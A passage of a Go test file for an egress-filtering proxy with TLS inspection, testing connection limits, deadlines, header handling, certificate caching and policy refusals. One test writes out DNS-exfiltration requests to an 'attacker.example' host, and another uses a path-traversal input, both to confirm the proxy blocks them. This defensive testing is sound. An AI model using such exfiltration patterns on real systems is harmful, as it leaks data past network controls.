		conn, _ := inspectDocs(t, addr, tlsPort, caPool)
		if !closed(conn, conn) {
			t.Error("the proxy kept a silent inspected connection open")
		}
	})
	t.Run("silent-after-handshake", func(t *testing.T) {
		conn, tc := inspectDocs(t, addr, tlsPort, caPool)
		if err := tc.Handshake(); err != nil {
			t.Fatal(err)
		}
		if !closed(conn, tc) {
			t.Error("the proxy kept an inspected connection with no request open")
		}
	})
	t.Run("idle-after-a-request", func(t *testing.T) {
		_, tc := inspectDocs(t, addr, tlsPort, caPool)
		br := bufio.NewReader(tc)
		for i := 0; i < 2; i++ {
			fmt.Fprintf(tc, "GET /public/%d HTTP/1.1\r\nHost: %s\r\n\r\n", i, auth)
			resp, err := http.ReadResponse(br, nil)
			if err != nil || resp.StatusCode != 200 {
				t.Fatalf("request %d: %v %v", i, resp, err)
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			time.Sleep(2 * timeout)
		}
	})
}

// TestTransparentInspectDeadline: a redirected connection handed to
// inspection whose client sent its ClientHello and then nothing (the
// handshake never completes) is closed at the hello deadline, not held
// for good (goproxy's handshake has none).
func TestTransparentInspectDeadline(t *testing.T) {
	tp := newTopo(t, topoOpts{})
	c := tp.dialFromClient(t, netip.Addr{}, netip.AddrPortFrom(srvV4, 443))
	if _, err := c.Write(goHello(t, "docs.paths.test", nil)); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	c.SetReadDeadline(start.Add(8 * time.Second))
	_, err := io.Copy(io.Discard, c)
	if errors.Is(err, os.ErrDeadlineExceeded) {
		t.Fatalf("the proxy kept the stalled handshake open for %v", time.Since(start).Round(time.Second))
	}
	tp.ev.wait(t, "the inspected connection's record", func(ev audit.Event) bool {
		return int(ev.ClientPort) == localPort(c) && ev.Close == "inspected"
	})
}

// TestExplicitHopByHop: header fields the client names in Connection are
// for the proxy's hop only (RFC 9110 section 7.6.1): they are not
// forwarded to the origin, in a plain-HTTP request nor in an inspected
// one; other fields are.
func TestExplicitHopByHop(t *testing.T) {
	addr, plainPort, tlsPort, caPool := loopbackExplicit(t, `version: 1
mode: enforce
rules:
  - name: docs
    to: ["docs.paths.test/public/*"]
    ports: [%d/tcp, %d/tcp]
`, nil)
	const fields = "Connection: keep-alive, X-Hop\r\nX-Hop: for-the-proxy\r\nX-End: for-the-origin\r\n\r\n"
	check := func(t *testing.T, resp *http.Response, err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 || resp.Header.Get("X-Seen-Hop") != "" || resp.Header.Get("X-Seen-End") != "for-the-origin" {
			t.Errorf("%d: the origin saw X-Hop %q, X-End %q", resp.StatusCode, resp.Header.Get("X-Seen-Hop"), resp.Header.Get("X-Seen-End"))
		}
	}
	t.Run("plain", func(t *testing.T) {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprintf(conn, "GET http://docs.paths.test:%d/public/h HTTP/1.1\r\nHost: docs.paths.test:%d\r\n"+fields, plainPort, plainPort)
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		check(t, resp, err)
	})
	t.Run("inspected", func(t *testing.T) {
		auth := fmt.Sprintf("docs.paths.test:%d", tlsPort)
		_, tc := inspectDocs(t, addr, tlsPort, caPool)
		fmt.Fprintf(tc, "GET /public/h HTTP/1.1\r\nHost: %s\r\n"+fields, auth)
		resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
		check(t, resp, err)
	})
}

// askedResolver is a Resolver that records the names it is asked and
// answers 127.0.0.1 for each.
type askedResolver struct {
	mu    sync.Mutex
	names []string
}

func (r *askedResolver) LookupNetIP(_ context.Context, name string) ([]netip.Addr, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.names = append(r.names, name)
	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
}

func (r *askedResolver) asked() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.names...)
}

// TestExplicitDeniedNameNotResolved: in enforce mode a name the policy
// denies, in a CONNECT or an absolute URL, is refused without being looked
// up: the lookup goes to the upstream resolvers, and a denied name must
// never reach them (THREATS.md 0.5: DNS is an exfiltration channel, the
// forwarder refuses such names locally). The explicit proxy resolved every
// name before it refused, so "CONNECT <data>.attacker.example:443" carried
// the data to the attacker's name server.
func TestExplicitDeniedNameNotResolved(t *testing.T) {
	eng, err := policy.Compile("enf.yaml", []byte(fmt.Sprintf(testPolicy, "enforce")))
	if err != nil {
		t.Fatal(err)
	}
	res := &askedResolver{}
	p, err := New(Config{OwnAddrs: []netip.Addr{}}, Deps{Policy: policy.NewStore(eng), Resolver: res,
		Logger: slog.New(slog.NewTextHandler(testWriter{t}, nil))})
	if err != nil {
		t.Fatal(err)
	}
	addr := serveExplicitLoopback(t, p)
	for _, raw := range []string{
		"CONNECT secret-1.attacker.example:443 HTTP/1.1\r\nHost: secret-1.attacker.example:443\r\n\r\n",
		"GET http://secret-2.attacker.example/ HTTP/1.1\r\nHost: secret-2.attacker.example\r\n\r\n",
		"CONNECT www.allowed.test:22 HTTP/1.1\r\nHost: www.allowed.test:22\r\n\r\n",
	} {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		c.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(c, raw)
		resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: strings.Fields(raw)[0]})
		c.Close()
		if err != nil || resp.StatusCode != http.StatusForbidden {
			t.Errorf("%q: %v %v", raw, resp, err)
			continue
		}
		if r := resp.Header.Get("X-Egressd-Reason"); r != policy.ReasonNoRule && r != policy.ReasonPort {
			t.Errorf("%q: reason %q", raw, r)
		}
	}
	if a := res.asked(); len(a) != 0 {
		t.Errorf("denied names were looked up upstream: %q", a)
	}
}

// TestCertStoreRenews: the inspection's leaf cache makes a leaf anew when
// the cached one nears its end, instead of serving it expired (goproxy's
// leaves last a year; the cache kept them for the life of the process).
func TestCertStoreRenews(t *testing.T) {
	var made int
	leafUntil := func(end time.Time) func() (*tls.Certificate, error) {
		return func() (*tls.Certificate, error) {
			made++
			return &tls.Certificate{Leaf: &x509.Certificate{NotBefore: time.Now().Add(-time.Hour), NotAfter: end}}, nil
		}
	}
	s := &certStore{}
	soon, later := time.Now().Add(time.Hour), time.Now().Add(300*24*time.Hour)
	for _, c := range []struct {
		host  string
		gen   func() (*tls.Certificate, error)
		made  int
		until time.Time
	}{
		{"a.test", leafUntil(soon), 1, soon},
		{"a.test", leafUntil(later), 2, later}, // the cached leaf ends within a week: made anew
		{"a.test", leafUntil(later), 2, later}, // cached
	} {
		got, err := s.Fetch(c.host, c.gen)
		if err != nil || made != c.made || !got.Leaf.NotAfter.Equal(c.until) {
			t.Errorf("%s: %v, leaves made %d (want %d), leaf until %v (want %v)", c.host, err, made, c.made, got.Leaf.NotAfter, c.until)
		}
	}
}

// TestExplicitInspectLimit: inspected CONNECTs hold connection slots like
// spliced ones, so MaxConnsPerClient caps them (they were not counted: a
// client could hold any number of them open), and a closed one gives its
// slot back. An inspected CONNECT keeps the slot its connection was
// accepted with (TestExplicitConnectionsLimited): two fit a cap of 2.
func TestExplicitInspectLimit(t *testing.T) {
	addr, _, tlsPort, caPool := loopbackExplicit(t, `version: 1
mode: enforce
rules:
  - name: docs
    to: ["docs.paths.test/public/*"]
    ports: [%d/tcp, %d/tcp]
`, func(c *Config) { c.MaxConnsPerClient = 2 })
	auth := fmt.Sprintf("docs.paths.test:%d", tlsPort)
	// open makes an inspected CONNECT and one request in it; it returns
	// the connection, or the CONNECT's status when it was refused.
	open := func(t *testing.T) (net.Conn, int) {
		t.Helper()
		conn, code := connectDocs(t, addr, tlsPort)
		if code != 200 {
			return nil, code
		}
		tc := tls.Client(conn, &tls.Config{ServerName: "docs.paths.test", RootCAs: caPool})
		fmt.Fprintf(tc, "GET /public/l HTTP/1.1\r\nHost: %s\r\n\r\n", auth)
		resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("request: %v %v", resp, err)
		}
		return conn, 200
	}
	first, _ := open(t)
	open(t)
	// A third connection is over the cap: closed at accept (as on the
	// transparent listener), before its CONNECT is read.
	if c, err := net.Dial("tcp", addr); err == nil {
		c.SetDeadline(time.Now().Add(5 * time.Second))
		fmt.Fprintf(c, "CONNECT docs.paths.test:%d HTTP/1.1\r\nHost: docs.paths.test:%d\r\n\r\n", tlsPort, tlsPort)
		if b, _ := io.ReadAll(c); len(b) != 0 {
			t.Errorf("a third connection over the client's cap of 2 got %q, want it closed", b)
		}
		c.Close()
	}
	first.Close()
	// Until the slot is back, a new connection is closed at accept.
	deadline := time.Now().Add(5 * time.Second)
	for {
		code, err := connectStatus(addr, tlsPort)
		if code == 200 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the closed inspected connection's slot was not given back: %d %v", code, err)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// connectStatus is connectOpen with the connection closed: the status,
// 0 when the proxy closed it without one.
func connectStatus(addr string, port int) (int, error) {
	c, code, err := connectOpen(addr, port)
	if c != nil {
		c.Close()
	}
	return code, err
}

// TestExplicitInspectUpstreamFails: when the origin of an inspected
// request cannot be reached or fails certificate verification, the
// client gets a 502 (goproxy closed its connection without an answer).
func TestExplicitInspectUpstreamFails(t *testing.T) {
	addr, _, tlsPort, caPool := loopbackExplicit(t, `version: 1
mode: enforce
rules:
  - name: docs
    to: ["docs.paths.test/public/*"]
    ports: [%d/tcp, %d/tcp]
`, func(c *Config) { c.UpstreamRoots = x509.NewCertPool() }) // trusts no origin
	auth := fmt.Sprintf("docs.paths.test:%d", tlsPort)
	_, tc := inspectDocs(t, addr, tlsPort, caPool)
	fmt.Fprintf(tc, "GET /public/u HTTP/1.1\r\nHost: %s\r\n\r\n", auth)
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil || resp.StatusCode != http.StatusBadGateway {
		t.Fatalf("an origin that fails verification: %v %v, want 502", resp, err)
	}
}

// TestExplicitInspectCountsRequests: an inspected CONNECT is one flow in
// the report, with its bytes, and each decrypted request is a request (of
// its rule, or of the dropped entry when refused), as on plain HTTP.
// Every request was a flow event of its own: the ledger merged those
// within 2 s of the connection into its flow (a refused path then
// vanished from the report) and counted later ones as further flows.
func TestExplicitInspectCountsRequests(t *testing.T) {
	ev := &events{}
	addr, _, tlsPort, caPool := loopbackExplicitSink(t, `version: 1
mode: enforce
rules:
  - name: docs
    to: ["docs.paths.test/public/*"]
    ports: [%d/tcp, %d/tcp]
`, nil, ev)
	conn, tc := inspectDocs(t, addr, tlsPort, caPool)
	inspectedRequests(t, tc, fmt.Sprintf("docs.paths.test:%d", tlsPort))
	checkInspectedCounts(t, ev, localPort(conn), uint16(tlsPort), 2)
}

// TestTransparentInspectCountsRequests: as TestExplicitInspectCountsRequests,
// for a redirected connection handed to inspection. On plain HTTP the
// connection's flow was decided on the first request and stands for it,
// as without inspection: the later requests are the requests.
func TestTransparentInspectCountsRequests(t *testing.T) {
	tp := newTopo(t, topoOpts{})
	_, caPEM, err := LoadOrCreateCA(tp.state)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(caPEM)
	t.Run("tls", func(t *testing.T) {
		c := tp.dialAtFirstWrite(t, netip.AddrPortFrom(srvV4, 443))
		inspectedRequests(t, tls.Client(c, &tls.Config{ServerName: "docs.paths.test", RootCAs: pool}), "docs.paths.test")
		checkInspectedCounts(t, tp.ev, localPort(c), 443, 2)
	})
	t.Run("plain", func(t *testing.T) {
		c := tp.dialFromClient(t, netip.Addr{}, netip.AddrPortFrom(srvV4, 80))
		c.SetDeadline(time.Now().Add(20 * time.Second))
		inspectedRequests(t, c, "docs.paths.test")
		checkInspectedCounts(t, tp.ev, localPort(c), 80, 1)
	})
}

// inspectedRequests sends, on one inspected connection to host (the
// policy allowing docs.paths.test/public/* in enforce mode), two allowed
// requests more than the ledger's 2 s flow slack apart, then a refused
// one, which ends the connection.
func inspectedRequests(t *testing.T, tc io.ReadWriter, host string) {
	t.Helper()
	br := bufio.NewReader(tc)
	for i, c := range []struct {
		path string
		code int
	}{{"/public/a", 200}, {"/public/b", 200}, {"/private/c", 403}} {
		if i == 1 {
			time.Sleep(2500 * time.Millisecond)
		}
		fmt.Fprintf(tc, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", c.path, host)
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatalf("%s: %v", c.path, err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != c.code {
			t.Fatalf("%s: %d, want %d", c.path, resp.StatusCode, c.code)
		}
	}
	if _, err := br.ReadByte(); err == nil {
		t.Error("the connection stayed open after the refused request")
	}
}

// checkInspectedCounts waits until the events of the inspected connection
// from clientPort (inspectedRequests), fed to a ledger, make one flow of
// rule docs with bytes both ways and requests allowed requests, and one
// request of the dropped entry docs.paths.test:destPort/tcp, with no flow.
func checkInspectedCounts(t *testing.T, ev *events, clientPort int, destPort uint16, requests uint64) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		led := audit.NewLedger(nil, audit.LedgerOptions{})
		ev.mu.Lock()
		for _, e := range ev.evs {
			if int(e.ClientPort) == clientPort {
				led.Emit(e)
			}
		}
		ev.mu.Unlock()
		r := led.Report(audit.ReportOptions{})
		var rule audit.RuleReport
		var drop audit.DroppedReport
		var b strings.Builder
		for _, rr := range r.Rules {
			if rr.Name == "docs" {
				rule = rr
			}
			fmt.Fprintf(&b, "\n  rule %s: %d flows, %d requests, %d/%d bytes", rr.Name, rr.Flows, rr.Requests, rr.BytesOut, rr.BytesIn)
		}
		for _, dr := range r.Dropped {
			if dr.Dest == "docs.paths.test" && dr.Port == destPort && dr.Proto == "tcp" {
				drop = dr
			}
			fmt.Fprintf(&b, "\n  dropped %s:%d/%s: %d flows, %d requests (%s)", dr.Dest, dr.Port, dr.Proto, dr.Flows, dr.Requests, dr.Reason)
		}
		if r.Totals.Flows == 1 && rule.Flows == 1 && rule.Requests == requests && rule.BytesOut > 0 && rule.BytesIn > 0 &&
			drop.Flows == 0 && drop.Requests == 1 && drop.Enforced && drop.Reason == policy.ReasonPath {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("report of one inspected connection: %d flows%s\nwant 1 flow of rule docs with bytes and %d requests, and 1 refused request of docs.paths.test:%d/tcp", r.Totals.Flows, b.String(), requests, destPort)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestCertStoreBounded: inspection makes a leaf per host, and under a
// host/path rule's wildcard a client chooses the hosts (SNIs): 10,000 of
// them leave at most 4,097 leaves cached.
func TestCertStoreBounded(t *testing.T) {
	s := &certStore{}
	leaf := &tls.Certificate{Leaf: &x509.Certificate{NotAfter: time.Now().Add(300 * 24 * time.Hour)}}
	for i := range 10000 {
		if _, err := s.Fetch(fmt.Sprintf("h%d.paths.test", i), func() (*tls.Certificate, error) { return leaf, nil }); err != nil {
			t.Fatal(err)
		}
	}
	s.mu.Lock()
	n := len(s.m)
	s.mu.Unlock()
	if n > 4097 {
		t.Errorf("%d leaves cached after 10,000 hosts, bound 4,097", n)
	}
}

// TestExplicitConnectionsLimited: connections to the explicit listener
// hold a connection slot from accept to close, as transparent ones do, so
// MaxConnsPerClient caps them. Only CONNECT tunnels took one: a client
// could open any number of connections and hold each in its request head
// (up to 64 KiB of it, for HelloTimeout) or idle between requests (90 s),
// each with its goroutine and buffers. A connection over the cap is closed
// at once; the slots come back when connections close; a CONNECT tunnel
// holds one slot, not two.
func TestExplicitConnectionsLimited(t *testing.T) {
	const limit = 4
	addr, plainPort, tlsPort, _ := loopbackExplicit(t, `version: 1
mode: enforce
rules:
  - name: docs
    to: ["docs.paths.test"]
    ports: [%d/tcp, %d/tcp]
`, func(c *Config) { c.MaxConnsPerClient = limit; c.HelloTimeout = 20 * time.Second })
	// open dials and sends the start of a request head; it returns the
	// connection, nil when the proxy refused it before the dial returned
	// (a reset on loopback can be that quick).
	open := func() net.Conn {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return nil
		}
		t.Cleanup(func() { c.Close() })
		fmt.Fprintf(c, "GET http://docs.paths.test:%d/ HTTP/1.1\r\nX-Slow: aaaa", plainPort)
		return c
	}
	// alive reports whether the proxy keeps c open: a read sees no end
	// (EOF or a reset) within the wait.
	alive := func(c net.Conn) bool {
		if c == nil {
			return false
		}
		c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
		_, err := c.Read(make([]byte, 1))
		var ne net.Error
		return errors.As(err, &ne) && ne.Timeout()
	}
	var conns []net.Conn
	for range 3 * limit {
		conns = append(conns, open())
	}
	kept := 0
	for _, c := range conns {
		if alive(c) {
			kept++
		}
	}
	if kept != limit {
		t.Fatalf("%d of %d connections with an unfinished head are kept open, want the client's cap %d", kept, len(conns), limit)
	}
	for _, c := range conns {
		if c != nil {
			c.Close()
		}
	}
	// The slots come back: a request and CONNECT tunnels up to the cap.
	deadline := time.Now().Add(5 * time.Second)
	for {
		resp, err := explicitGet(addr, fmt.Sprintf("http://docs.paths.test:%d/x", plainPort))
		if err == nil && resp == 200 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("a request after every connection closed: %d %v", resp, err)
		}
		time.Sleep(50 * time.Millisecond)
	}
	// Each CONNECT tunnel holds one slot: the cap's worth of them stay
	// open together (the request's connection may hold its slot a moment
	// after the client closed it: each is tried until the deadline).
	for i := range limit {
		for {
			c, code, err := connectOpen(addr, tlsPort)
			if code == 200 {
				t.Cleanup(func() { c.Close() })
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("CONNECT %d of %d: %d %v", i+1, limit, code, err)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	if code, err := connectStatus(addr, tlsPort); code != 0 {
		t.Errorf("a CONNECT over the cap, with %d tunnels open: %d %v, want the connection closed", limit, code, err)
	}
}

// connectOpen sends CONNECT docs.paths.test:port to the explicit proxy at
// addr and returns the connection, left open when the status is 200.
func connectOpen(addr string, port int) (net.Conn, int, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, 0, err
	}
	conn.SetDeadline(time.Now().Add(5 * time.Second))
	auth := fmt.Sprintf("docs.paths.test:%d", port)
	fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", auth, auth)
	resp, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: http.MethodConnect})
	if err != nil || resp.StatusCode != 200 {
		conn.Close()
		if err != nil {
			return nil, 0, err
		}
		return nil, resp.StatusCode, nil
	}
	conn.SetDeadline(time.Time{})
	return conn, 200, nil
}

// explicitGet sends one request through the explicit proxy at addr on a
// connection of its own and returns the status.
func explicitGet(addr, url string) (int, error) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", url)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, err
	}
	resp.Body.Close()
	return resp.StatusCode, nil
}

// TestExplicitEmptyPath: an absolute-form target with no path
// ("http://host", "http://host?q", "https://host" inside an inspected
// CONNECT) is a request for "/" (Go's transport sends "/", as any origin
// reads it): a host/path glob that does not name "/" refuses it. Before,
// net/http's empty URL.Path reached the policy as an unknown path, host
// level, and the origin served "/" under "docs.paths.test/public/*". A
// fragment in the target does not hide a dot segment after it either.
func TestExplicitEmptyPath(t *testing.T) {
	addr, plainPort, tlsPort, caPool := loopbackExplicit(t, docsPublicPolicy, nil)
	targets := []struct {
		target, reason string
		code           int
	}{
		{"", policy.ReasonPath, 403},
		{"?page=private", policy.ReasonPath, 403},
		{"/public/ok", "", 200},
		{"/public/#/../private-frag", ReasonPathForm, 403},
	}
	t.Run("plain", func(t *testing.T) {
		for _, c := range targets {
			resp, err := getDocsPlain(t, addr, plainPort, c.target)
			checkRefused(t, "plain "+c.target, resp, err, c.code, c.reason)
		}
	})
	t.Run("inspected", func(t *testing.T) {
		auth := fmt.Sprintf("docs.paths.test:%d", tlsPort)
		for _, c := range targets {
			conn, tc := inspectDocs(t, addr, tlsPort, caPool)
			fmt.Fprintf(tc, "GET https://%s%s HTTP/1.1\r\nHost: %s\r\n\r\n", auth, c.target, auth)
			resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
			checkRefused(t, "inspected "+c.target, resp, err, c.code, c.reason)
			conn.Close()
		}
	})
}
